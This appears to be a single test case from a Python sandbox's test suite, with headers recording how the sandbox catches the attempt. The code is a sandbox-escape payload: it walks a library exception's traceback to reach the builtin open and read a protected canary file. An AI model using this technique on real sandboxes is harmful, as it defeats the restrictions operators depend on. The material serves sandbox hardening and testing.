# Technique   the traceback below, of a function of the library
# Mechanism   tb_next
# As shipped  rejected: attribute, underscore
# Unguarded   blocked: openat

try:
    json.loads("{")
except ValueError as e:
    tb = e.__traceback__
while tb.tb_next is not None:
    tb = tb.tb_next
return tb.tb_frame.f_globals["__builtins__"]["open"](CANARY_FILE).read()
